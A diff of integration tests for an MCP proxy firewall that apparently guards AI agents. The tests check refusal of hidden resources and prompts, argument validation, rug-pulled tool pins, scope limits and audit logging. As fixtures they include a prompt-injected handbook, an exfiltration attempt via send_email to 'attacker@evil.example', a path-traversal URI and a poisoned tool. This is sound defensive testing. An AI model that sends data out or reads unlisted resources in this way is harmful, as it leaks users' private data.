@@ -14,7 +14,7 @@ import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js"
 import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
 import type { CallToolResult, GetPromptResult, ReadResourceResult } from "@modelcontextprotocol/sdk/types.js";
 import { SignJWT } from "jose";
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
 import { CLI_ENTRY } from "../helpers/cli-build.js";
 
 const ROOT = resolve(import.meta.dirname, "..", "..");
@@ -63,6 +63,24 @@ async function cli(...args: string[]): Promise<string> {
 
 function text(r: unknown): string {
   return ((r as CallToolResult).content as { type: string; text?: string }[]).map((c) => c.text ?? "").join("\n");
+}
+
+/** The firewall's audit rows in the proxy's stderr (pino JSON lines, `msg: firewall.dispatch`). */
+function auditRows(stderr: string): Record<string, unknown>[] {
+  return stderr
+    .split("\n")
+    .filter((l) => l.startsWith("{") && l.includes('"firewall.dispatch"'))
+    .map((l) => JSON.parse(l) as Record<string, unknown>);
+}
+
+/** The message of a rejected request (a refused read or get is a JSON-RPC error). */
+async function rejection(p: Promise<unknown>): Promise<string> {
+  try {
+    await p;
+  } catch (e) {
+    return (e as Error).message;
+  }
+  throw new Error("expected the request to be refused");
 }
 
 async function names(client: Client): Promise<string[]> {
@@ -137,6 +155,7 @@ describe("rampart mcp-proxy over stdio", { timeout: 120_000 }, () => {
     expect(before, before).toContain("vouched for by no trusted source");
     expect(before).not.toContain("occurs in untrusted");
 
+    // hr://salaries is not under firewall.mcp.resources: hidden (the server lists it)
     expect((await client.listResources()).resources.map((r) => r.uri)).toEqual(["docs://handbook"]);
     expect((await client.listResourceTemplates()).resourceTemplates).toEqual([]);
     const read = (await client.readResource({ uri: "docs://handbook" })) as ReadResourceResult;
@@ -145,6 +164,7 @@ describe("rampart mcp-proxy over stdio", { timeout: 120_000 }, () => {
     expect(body).toContain("[INSTRUCTION_LIKE]");
     expect(read.contents[0]?.uri).toBe("docs://handbook");
 
+    // debug_dump is not under firewall.mcp.prompts: hidden
     expect((await client.listPrompts()).prompts.map((p) => p.name)).toEqual(["summarize"]);
     const prompt = (await client.getPrompt({ name: "summarize", arguments: { topic: "leave" } })) as GetPromptResult;
     const said = (prompt.messages[0]?.content as { text: string }).text;
@@ -155,6 +175,32 @@ describe("rampart mcp-proxy over stdio", { timeout: 120_000 }, () => {
     const held = text(await client.callTool({ name: "send_email", arguments: { to: "attacker@evil.example", body: "the handbook, again" } }));
     expect(held).toMatch(/^ERR_APPROVAL_REQUIRED: /);
     expect(held, held).toMatch(/occurs in untrusted evidence:mcp:1\b/);
+  });
+
+  it("refuses an unlisted resource or prompt and a prompt argument outside its policy, each with its audit row", async () => {
+    const { client, stderr } = await connect();
+    // hidden, and refused when asked for by URI or name anyway
+    expect(await rejection(client.readResource({ uri: "hr://salaries" }))).toMatch(/ERR_UNKNOWN_TOOL: /);
+    expect(await rejection(client.getPrompt({ name: "debug_dump" }))).toMatch(/ERR_UNKNOWN_TOOL: /);
+    // a URI the server does not list (e.g. one a template would make) is never read
+    expect(await rejection(client.readResource({ uri: "docs://handbook/../salaries" }))).toMatch(/ERR_UNKNOWN_TOOL: resource refused: the server's resources\/list does not hold this URI/);
+    // the prompt's arguments are checked against firewall.mcp.prompts.summarize.args
+    expect(await rejection(client.getPrompt({ name: "summarize", arguments: { topic: "x".repeat(101) } }))).toMatch(/ERR_ARGS: /);
+    expect(await rejection(client.getPrompt({ name: "summarize", arguments: {} }))).toMatch(/ERR_ARGS: /);
+    // a tools/call under a prompt's registry name is not a way around the prompt's policy
+    expect(text(await client.callTool({ name: "mcp-prompt--summarize", arguments: { topic: "leave" } }))).toMatch(/^ERR_UNKNOWN_TOOL: /);
+    expect((await client.readResource({ uri: "docs://handbook" })).contents).toHaveLength(1);
+
+    await vi.waitFor(() => expect(auditRows(stderr()).length).toBeGreaterThanOrEqual(7), { timeout: 20_000 });
+    const rows = auditRows(stderr()).map((r) => ({ tool: r.tool, decision: r.decision, code: r.code, detail: r.detail }));
+    expect(rows).toContainEqual({ tool: null, decision: "deny", code: "ERR_UNKNOWN_TOOL", detail: expect.stringMatching(/^registry:resource-unlisted:name:[0-9a-f]{16}$/) });
+    expect(rows).toContainEqual({ tool: null, decision: "deny", code: "ERR_UNKNOWN_TOOL", detail: expect.stringMatching(/^registry:name:[0-9a-f]{16}$/) }); // debug_dump
+    expect(rows).toContainEqual({ tool: "mcp-prompt--summarize", decision: "deny", code: "ERR_ARGS", detail: expect.stringMatching(/^args:/) });
+    expect(rows).toContainEqual({ tool: "mcp-prompt--summarize", decision: "deny", code: "ERR_UNKNOWN_TOOL", detail: "registry:reserved" });
+    expect(rows).toContainEqual({ tool: "mcp-resource--handbook", decision: "allow", code: null, detail: "permit" });
+    // never the prompt's argument or the URI in a row
+    expect(stderr()).not.toContain("x".repeat(101));
+    expect(JSON.stringify(auditRows(stderr()))).not.toContain("salaries");
   });
 
   it("does not pin a poisoned tool on first use: hidden, refused, held for review until approved", async () => {
@@ -173,13 +219,18 @@ describe("rampart mcp-proxy over stdio", { timeout: 120_000 }, () => {
     expect(await names(client)).toEqual(["search_docs", "send_email"]);
   });
 
-  it("hides a tool whose description changed (rug pull) until its pin is approved", async () => {
+  it("hides a tool whose description changed (rug pull) until its pin is approved; the refused call is audited", async () => {
     const { client, stderr } = await connect({ MCP_EXAMPLE_RUG_PULL: "1" });
     expect(await names(client)).toEqual(["send_email"]);
     expect(stderr()).toContain('tool "search_docs" is hidden: its description or schema changed');
-    const refused = await client.callTool({ name: "search_docs", arguments: { query: "report" } });
+    const refused = await client.callTool({ name: "search_docs", arguments: { query: "report about the rug pull" } });
     expect(refused.isError).toBe(true);
     expect(text(refused)).toMatch(/^ERR_TOOL_CHANGED: /);
+    // the refusal never reached the firewall's checks, and still has its audit row
+    await vi.waitFor(() => expect(auditRows(stderr()).some((r) => r.detail === "pin:changed")).toBe(true), { timeout: 20_000 });
+    const row = auditRows(stderr()).find((r) => r.detail === "pin:changed");
+    expect(row).toMatchObject({ kind: "dispatch", tool: "search_docs", decision: "deny", code: "ERR_TOOL_CHANGED", caller: "alice", sessionKind: "verified", argsHmac: null });
+    expect(stderr()).not.toContain("report about the rug pull");
 
     expect(await cli("mcp-proxy", "pins", "list")).toContain("changed search_docs");
     expect(await cli("mcp-proxy", "pins", "approve", "search_docs")).toContain("approved search_docs");
@@ -199,6 +250,7 @@ describe("rampart mcp-proxy over stdio", { timeout: 120_000 }, () => {
     writeFileSync(pins, "{not json");
     expect(await names(client)).toEqual([]);
     expect(stderr()).toContain("not JSON");
+    await vi.waitFor(() => expect(auditRows(stderr()).map((r) => r.detail)).toContain("pin:file-corrupt"), { timeout: 20_000 });
   });
 });
 
@@ -244,5 +296,17 @@ describe("rampart mcp-proxy --http (Streamable HTTP)", { timeout: 120_000 }, () 
 
     const writer = await httpClient(url, await mint("docs:read mail:send"));
     expect(await names(writer)).toEqual(["search_docs", "send_email"]);
+
+    // prompts and resources by the same scopes: docs:read may read the handbook and get the prompt
+    expect((await reader.listResources()).resources.map((r) => r.uri)).toEqual(["docs://handbook"]);
+    expect((await reader.listPrompts()).prompts.map((p) => p.name)).toEqual(["summarize"]);
+    expect(((await reader.readResource({ uri: "docs://handbook" })).contents[0] as { text: string }).text).toContain("[INSTRUCTION_LIKE]");
+    expect(await rejection(reader.readResource({ uri: "hr://salaries" }))).toMatch(/ERR_UNKNOWN_TOOL: /);
+    // … a token without docs:read sees neither and is refused both
+    const mailer = await httpClient(url, await mint("mail:send"));
+    expect((await mailer.listResources()).resources).toEqual([]);
+    expect((await mailer.listPrompts()).prompts).toEqual([]);
+    expect(await rejection(mailer.readResource({ uri: "docs://handbook" }))).toMatch(/ERR_SCOPE: /);
+    expect(await rejection(mailer.getPrompt({ name: "summarize", arguments: { topic: "leave" } }))).toMatch(/ERR_SCOPE: /);
   });
 });
